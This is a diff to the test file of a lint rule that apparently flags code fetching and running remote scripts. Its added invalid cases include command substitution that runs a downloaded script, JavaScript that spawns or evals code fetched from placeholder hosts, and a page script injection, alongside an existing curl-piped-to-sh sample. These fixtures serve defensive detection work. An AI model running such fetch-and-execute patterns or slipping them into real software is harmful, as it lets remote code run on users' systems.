@@ -45,6 +45,12 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    // whether a server answers
+    { code: 'until $(curl -m1 https://$HOST &> /dev/null); do sleep 1; done\n', filename: 'wait.sh' },
+    // data for a script of the project
+    { code: "import { spawn } from 'node:child_process'; import { join } from 'node:path'; const { address } = await (await fetch('https://api.acme-tools.dev/x')).json(); spawn(process.execPath, [join(__dirname, 'proxy.js'), address]);", filename: 'src/a.js' },
+    // a file of the extension itself
+    { code: "async function inject(path) { const url = browser.runtime.getURL(path); const script = document.createElement('script'); script.text = await fetch(url).then((answer) => answer.text()); document.head.append(script); }", filename: 'src/a.js' },
     { code: "{\"scripts\":{\"a\":\"npx ./scripts/x\",\"b\":\"npx @scope/tool a/b\",\"c\":\"pnpm exec packages/a/bin/x\",\"d\":\"npx degit user/repo\",\"e\":\"npx scripts/x.js\",\"f\":\"npm x -w a -- foo\"}}\n", filename: 'package.json' },
     { code: "npm i ./p.tgz\npip install -r requirements.txt --index-url https://pypi.example.org/simple\nnpm install -g npm --registry https://npm.example.org\n", filename: 'a.sh', options: { strict: true } },
     { code: "npm i -D https://example.dev/p.tgz\npip install git+https://example.dev/x/y\n", filename: 'a.sh' },
@@ -178,6 +184,12 @@ await ruleTester(rule, {
     { code: `import pty from 'node-pty'; import { WebSocketServer } from 'ws'; new WebSocketServer({ port: 3000 }).on('connection', (ws) => { const term = pty.spawn('bash', [], {}); term.onData((d) => ws.send(d)); ws.on('message', (m) => term.write(m)); });` },
   ],
   invalid: [
+    { code: '$(curl -s https://tools.example-service.com/i.sh)\n', filename: 'run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: '$(curl -s https://tools.example-service.com/i.sh > /tmp/i; cat /tmp/i)\n', filename: 'run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: "import { spawn } from 'node:child_process'; const { address } = await (await fetch('https://api.acme-tools.dev/x')).json(); spawn(process.execPath, [address]);", filename: 'src/a.js', errors: [{ messageId: 'download' }] },
+    { code: "import { spawn } from 'node:child_process'; const { folder } = await (await fetch('https://api.acme-tools.dev/x')).json(); spawn(process.execPath, [`${folder}/proxy.js`]);", filename: 'src/a.js', errors: [{ messageId: 'download' }] },
+    { code: "async function inject(runtime) { const script = document.createElement('script'); script.text = await fetch('https://cdn.example-service.com/a.js').then((answer) => answer.text()); document.head.append(script); }", filename: 'src/a.js', errors: [{ messageId: 'download' }] },
+    { code: "const runtime = { getURL: () => 'https://cdn.example-service.com/a.js' }; fetch(runtime.getURL('a.js')).then((answer) => answer.text()).then((text) => eval(text));", filename: 'src/a.js', errors: [{ messageId: 'download' }] },
     { code: "{\"scripts\":{\"a\":\"npx someone/tool\"}}\n", filename: 'package.json', errors: [{ messageId: 'pipe' }] },
     { code: "{\"scripts\":{\"a\":\"pnpm dlx someone/tool#v2 --flag\"}}\n", filename: 'package.json', errors: [{ messageId: 'pipe' }] },
     { code: "{\"scripts\":{\"a\":\"yarn exec 'curl -s https://x.acme.test/a | sh'\"}}\n", filename: 'package.json', errors: [{ messageId: 'pipe' }] },
